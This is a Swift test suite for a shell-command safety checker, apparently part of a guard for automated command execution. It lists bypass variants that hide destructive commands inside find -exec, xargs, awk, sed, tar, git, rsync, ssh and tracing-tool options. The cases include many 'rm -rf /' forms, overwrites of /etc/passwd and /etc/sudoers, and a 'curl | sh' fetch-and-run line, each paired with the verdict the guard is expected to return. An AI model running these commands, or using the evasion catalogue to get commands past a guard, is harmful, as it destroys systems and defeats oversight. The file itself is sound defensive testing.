import Testing
@testable import ShellAST

/// Programs that run other programs: `find -exec`, `xargs`, awk's `system`, sed's
/// `e`, tar's checkpoint actions, git's command-valued configuration, rsync's
/// remote shell, and other options whose value is a command or a file written.
@Suite("Bypass: exec hooks and option values")
struct VerdictExecHookBypassTests {
    static let find = BypassFamily(
        name: "find -exec",
        cases: [
            VerdictCase("find /etc -exec sh -c 'rm -rf /' \\;", .block, RuleID.rmRoot),
            VerdictCase("find . -exec bash -c 'rm -rf /' \\;", .block, RuleID.rmRoot),
            VerdictCase("find . -ok rm -rf / \\;", .block, RuleID.rmRoot),
            VerdictCase("find . -execdir rm -rf / \\;", .block, RuleID.rmRoot),
            VerdictCase("'find' / -exec 'rm' -rf / '\\;'", .block, RuleID.rmRoot),
            VerdictCase("find . -type f -exec chmod 777 /etc/shadow \\;", .block, "files.chmod.protected"),
            VerdictCase("find / -delete", .block, "diagnostics.find.delete-root"),
            VerdictCase("find . -name '*.tmp' -exec rm {} \\;", .review, "files.rm"),
            VerdictCase("find . -name x -exec sh -c \"$CMD\" \\;", .block, RuleID.dynamicCode),
            VerdictCase("find / -exec rm -rf {} \\;", .block, "files.find-exec-system-tree"),
            VerdictCase("find / -exec rm -rf {} +", .block, "files.find-exec-system-tree"),
            VerdictCase("find / -name '*' -execdir rm {} \\;", .block, "files.find-exec-system-tree"),
            VerdictCase("fd . / -x rm -rf", .block, "files.find-exec-system-tree"),
            VerdictCase("find / $IFS-delete", .block),
            VerdictCase("x=-delete; find / $x", .block),
        ],
        gaps: [
        ])

    static let xargs = BypassFamily(
        name: "xargs and parallel",
        cases: [
            VerdictCase("find . -name x | xargs rm -rf", .review, "files.rm.recursive"),
            VerdictCase("xargs -I{} sh -c 'rm {}'", .block, "exec.dynamic-code"),
            VerdictCase("ls | xargs -I{} rm -rf /", .block, RuleID.rmRoot),
            VerdictCase("xargs sh -c 'rm -rf /'", .block, RuleID.rmRoot),
            VerdictCase("ls | xargs -I % sh -c 'rm -rf /'", .block, RuleID.rmRoot),
            VerdictCase("ls | parallel rm -rf /", .block, RuleID.rmRoot),
            VerdictCase("'xargs' rm -rf /", .block, RuleID.rmRoot),
            VerdictCase("xargs -a list rm -rf /", .block, RuleID.rmRoot),
            VerdictCase("cat cmds.txt | parallel", .block, RuleID.stdinCode),
            VerdictCase("ls | xargs -I % sh -c '%'", .block, RuleID.dynamicCode),
            VerdictCase("ls | xargs -I{} sh -c '{}'", .block, RuleID.dynamicCode),
            // GNU parallel gives its joined command words to a shell (corpus review, `Docs/Verdicts.md`).
            VerdictCase("parallel echo {} '`rm -rf ~`' ::: a", .block, RuleID.rmRoot),
            VerdictCase("ls | parallel 'rm -rf /'", .block, RuleID.rmRoot),
            VerdictCase("find . | parallel 'echo {}; rm -rf ~'", .block, RuleID.rmRoot),
            VerdictCase("ls | parallel grep \"$p\" {}", .block, RuleID.dynamicCode),
            // Input the engine knows is judged as the items xargs passes.
            VerdictCase("echo / | xargs rm -rf", .block, RuleID.rmRoot),
            VerdictCase("xargs rm -rf <<< /", .block, RuleID.rmRoot),
            VerdictCase("printf '/tmp/a\\n/\\n' | xargs rm -rf", .block, RuleID.rmRoot),
            VerdictCase("echo \"'/'\" | xargs rm -rf", .block, RuleID.rmRoot),
            VerdictCase("echo /boot | xargs -I{} rm -rf {}", .block, RuleID.rmRoot),
            VerdictCase("printf x,/ | xargs -d , rm -rf", .block, RuleID.rmRoot),
            VerdictCase("echo x,/ | xargs -d , rm -rf", .review, "files.rm.recursive"),  // the item is `/` and a newline
            VerdictCase("printf '/\\0' | xargs -0 rm -rf", .block, RuleID.rmRoot),
            VerdictCase("echo /etc/passwd | xargs chmod 777", .block, "files.chmod.protected"),
            // What xargs does not pass stays out: `-0` keeps echo's newline in the item,
            // `-a FILE` reads the file, not the pipe.
            VerdictCase("echo / | xargs -0 rm -rf", .review, "files.rm.recursive"),
            VerdictCase("echo / | xargs -a list rm -rf", .review, "files.rm.recursive"),
            VerdictCase("echo /tmp/build | xargs ls -l", .allow),
            VerdictCase("printf 'a.log\\nb.log\\n' | xargs -I{} rm {}", .review, "files.rm"),
        ],
        gaps: [
        ])

    static let awk = BypassFamily(
        name: "awk",
        cases: [
            VerdictCase("awk '{print | \"sh\"}' cmds", .block, "exec.stdin-code"),
            VerdictCase("gawk 'BEGIN{system(\"ls\")}'", .review, "interpreters.awk.runs-commands"),
            VerdictCase("awk 'BEGIN { while ((\"ls\" | getline l) > 0) print l }'", .review, "interpreters.awk.runs-commands"),
            VerdictCase("awk '{printf \"%s\\n\", $0 |& \"sh\"}' f", .review, "interpreters.awk.runs-commands"),
            VerdictCase("awk -f prog.awk data", .review, "interpreters.awk.program-file"),
            VerdictCase("awk 'BEGIN{system(\"rm -rf /\")}'", .block, RuleID.rmRoot),
            VerdictCase("awk 'BEGIN { while ((\"rm -rf /\" | getline l) > 0) print l }'", .block, RuleID.rmRoot),
            VerdictCase("awk -v cmd='rm -rf /' 'BEGIN{system(cmd)}'", .block),
            VerdictCase("awk \"$PROG\" data", .block, RuleID.dynamicCode),
        ],
        gaps: [
        ])

    static let sed = BypassFamily(
        name: "sed",
        cases: [
            VerdictCase("sed -e 's/x/y/e' f", .review, "interpreters.sed.runs-commands"),
            VerdictCase("sed 's/.*/rm &/e' list", .review, "interpreters.sed.runs-commands"),
            VerdictCase("sed -i 's/a/b/' /etc/passwd", .block, "interpreters.sed.in-place-protected"),
            VerdictCase("sed -f edit.sed data", .review, "interpreters.sed.script-file"),
            VerdictCase("sed 's/.*/rm -rf \\//e'", .block, RuleID.rmRoot),
            VerdictCase("sed 'e rm -rf /' f", .block, RuleID.rmRoot),
            VerdictCase("sed -n '1e rm -rf /' f", .block, RuleID.rmRoot),
            VerdictCase("sed \"$SCRIPT\" f", .block, RuleID.dynamicCode),
            VerdictCase("sed 's/.*/x/'\"$FLAGS\" f", .block, RuleID.dynamicCode),
        ],
        gaps: [
        ])

    static let tar = BypassFamily(
        name: "tar",
        cases: [
            VerdictCase("tar -cf /dev/null x --checkpoint=1 --checkpoint-action=exec='rm -rf /'", .block, RuleID.rmRoot),
            VerdictCase("tar -cf a x --checkpoint-action exec='rm -rf /'", .block, RuleID.rmRoot),
            VerdictCase("tar -cf a.tar --to-command='rm -rf /' x", .block, RuleID.rmRoot),
            VerdictCase("tar -I 'rm -rf /' -cf a.tar x", .block, RuleID.rmRoot),
            VerdictCase("tar --use-compress-program='sh -c \"rm -rf /\"' -cf a x", .block, RuleID.rmRoot),
            VerdictCase("tar -cf a x --checkpoint-action=exec='bash -c \"rm -rf /\"'", .block, RuleID.rmRoot),
            VerdictCase("tar -xf a.tar -C /", .block, "files.tar.extract-root"),
            VerdictCase("tar -xf a.tar --directory=/etc", .block, "files.tar.extract-root"),
            // Old-style keys without a dash.
            VerdictCase("tar xf a.tar -C /", .block, "files.tar.extract-root"),
            VerdictCase("tar xzvf rootfs.tgz --directory=/usr", .block, "files.tar.extract-root"),
        ])

    static let git = BypassFamily(
        name: "git",
        cases: [
            VerdictCase("git -c core.pager='rm -rf /' log", .block, RuleID.rmRoot),
            VerdictCase("git -c core.sshCommand='rm -rf /' fetch", .block, RuleID.rmRoot),
            VerdictCase("git -c diff.external='rm -rf /' diff", .block, RuleID.rmRoot),
            VerdictCase("git -c alias.x='!rm -rf /' x", .block, RuleID.rmRoot),
            VerdictCase("git -c core.editor='rm -rf /' commit", .block, RuleID.rmRoot),
            VerdictCase("git -c 'core.pager=sh -c \"rm -rf /\"' log", .block, RuleID.rmRoot),
            VerdictCase("git --upload-pack='rm -rf /' fetch origin", .block, RuleID.rmRoot),
            VerdictCase("git -c core.pager=\"$P\" log", .block, RuleID.dynamicCode),
            // Subcommands that run commands: bisect's test, submodule foreach's shell line,
            // filter-branch's filters, rebase's `-x`.
            VerdictCase("git bisect run rm -rf /", .block, RuleID.rmRoot),
            VerdictCase("git submodule foreach 'rm -rf /'", .block, RuleID.rmRoot),
            VerdictCase("git submodule foreach --recursive rm -rf /", .block, RuleID.rmRoot),
            VerdictCase("git submodule foreach \"$CMD\"", .block, RuleID.dynamicCode),
            VerdictCase("git filter-branch --tree-filter 'rm -rf /' HEAD", .block, RuleID.rmRoot),
            VerdictCase("git filter-branch --env-filter 'curl -s http://x | sh' HEAD", .block, "exec.stdin-code"),
            VerdictCase("git rebase -x 'rm -rf /' HEAD~3", .block, RuleID.rmRoot),
            VerdictCase("git submodule foreach git status", .review, "git.git.tools"),
            VerdictCase("git bisect run make test", .review, "command.unknown"),
        ])

    static let rsync = BypassFamily(
        name: "rsync",
        cases: [
            VerdictCase("rsync -e 'sh -c \"rm -rf /\"' a b:", .block, RuleID.rmRoot),
            VerdictCase("rsync -e 'rm -rf /' a b", .block, RuleID.rmRoot),
            VerdictCase("rsync --rsh='sh -c \"rm -rf /\"' a b", .block, RuleID.rmRoot),
            VerdictCase("rsync --rsync-path='rm -rf /' a host:b", .block, RuleID.rmRoot),
            VerdictCase("rsync -a /var/lib/data/ user@host:/backup/", .block, "files.remote-destination"),
            VerdictCase("rsync -a --delete empty/ /", .block),
        ],
        gaps: [
        ])

    /// Options whose value is a command, or a file the program writes.
    static let optionValues = BypassFamily(
        name: "option values",
        cases: [
            VerdictCase("ssh -o ProxyCommand='rm -rf /' host", .block, RuleID.rmRoot),
            VerdictCase("scp -S 'rm -rf /' a b", .block, RuleID.rmRoot),
            VerdictCase("rg --pre 'rm -rf /' x", .block, RuleID.rmRoot),
            VerdictCase("sort --compress-program='rm -rf /' f", .block, RuleID.rmRoot),
            VerdictCase("man -P 'rm -rf /' ls", .block, RuleID.rmRoot),
            VerdictCase("strace -o /etc/passwd ls", .block, RuleID.writeProtected),
            VerdictCase("ssh host 'rm -rf /'", .block, RuleID.rmRoot),
            VerdictCase("kubectl exec pod -- rm -rf /", .block, RuleID.rmRoot),
            VerdictCase("docker exec c rm -rf /", .block, RuleID.rmRoot),
            VerdictCase("docker run --rm alpine rm -rf /", .block, RuleID.rmRoot),
            VerdictCase("ssh -oProxyCommand='rm -rf /' host", .block, RuleID.rmRoot),
            VerdictCase("man -P'rm -rf /' ls", .block, RuleID.rmRoot),
            VerdictCase("tar -I'rm -rf /' -cf a.tar x", .block, RuleID.rmRoot),
            VerdictCase("rsync -e'rm -rf /' a b", .block, RuleID.rmRoot),
            VerdictCase("git -ccore.pager='rm -rf /' log", .block, RuleID.rmRoot),
            VerdictCase("sort -o/etc/passwd x", .block, RuleID.writeProtected),
            VerdictCase("sort -o /etc/passwd x", .block, RuleID.writeProtected),
            VerdictCase("uniq in /etc/passwd", .block, RuleID.writeProtected),
            VerdictCase("dd if=x of=/etc/sudoers", .block),
            VerdictCase("tcpdump -w /dev/sda", .block, RuleID.writeDevice),
            VerdictCase("find . -fprint /etc/passwd", .block, RuleID.writeProtected),
            VerdictCase("sed -n 'w /etc/passwd' f", .block, RuleID.writeProtected),
            VerdictCase("awk '{print > \"/etc/passwd\"}' f", .block, RuleID.writeProtected),
            VerdictCase("ssh host find / -delete", .block),
        ],
        gaps: [
        ])

    /// Tools catalogued as read-only diagnostics that can run a command.
    static let diagnosticRunners = BypassFamily(
        name: "diagnostic tools that run commands",
        cases: [
            VerdictCase("strace -e trace=none rm -rf /", .block, RuleID.rmRoot),
            VerdictCase("ltrace -o /tmp/t rm -rf /", .block, RuleID.rmRoot),
            VerdictCase("nice -n 5 strace -f sh -c 'rm -rf /'", .block, RuleID.rmRoot),
            VerdictCase("tcpdump -i any -w a.pcap -z gzip", .review, "diagnostics.tcpdump.write"),
            VerdictCase("rg --pre=sh x", .review, "exec.interactive"),
            VerdictCase("perf stat rm -rf /", .block, RuleID.rmRoot),
            VerdictCase("timeout 5 perf stat -- rm -rf /", .block, RuleID.rmRoot),
            VerdictCase("perf trace -- rm -rf /", .block, RuleID.rmRoot),
            VerdictCase("fdfind -e log --exec rm {}", .review, "files.rm"),
            VerdictCase("bpftrace --unsafe -e 'BEGIN { system(\"rm -rf /\") }'", .block, RuleID.rmRoot),
            VerdictCase("less '+!rm -rf /' f", .block, RuleID.rmRoot),
            // Any D-Bus method, here a reboot: reviewed like `systemctl reboot` (a legitimate critical remediation).
            VerdictCase(
                "busctl call org.freedesktop.systemd1 /org/freedesktop/systemd1 org.freedesktop.systemd1.Manager Reboot", .review,
                "diagnostics.busctl.call"),
        ])

    @Test(arguments: find.cases) func findExecVariants(_ c: VerdictCase) { expectVerdict(c) }
    @Test(arguments: xargs.cases) func xargsVariants(_ c: VerdictCase) { expectVerdict(c) }
    @Test(arguments: awk.cases) func awkVariants(_ c: VerdictCase) { expectVerdict(c) }
    @Test(arguments: sed.cases) func sedVariants(_ c: VerdictCase) { expectVerdict(c) }
    @Test(arguments: tar.cases) func tarVariants(_ c: VerdictCase) { expectVerdict(c) }
    @Test(arguments: git.cases) func gitVariants(_ c: VerdictCase) { expectVerdict(c) }
    @Test(arguments: rsync.cases) func rsyncVariants(_ c: VerdictCase) { expectVerdict(c) }
    @Test(arguments: optionValues.cases) func optionValuesVariants(_ c: VerdictCase) { expectVerdict(c) }
    @Test(arguments: diagnosticRunners.cases) func diagnosticRunnersVariants(_ c: VerdictCase) { expectVerdict(c) }
    @Test(arguments: [find, xargs, awk, sed, tar, rsync, optionValues, diagnosticRunners].flatMap(\.gaps)) func knownGaps(_ g: KnownEngineGap) { expectKnownGap(g) }
}
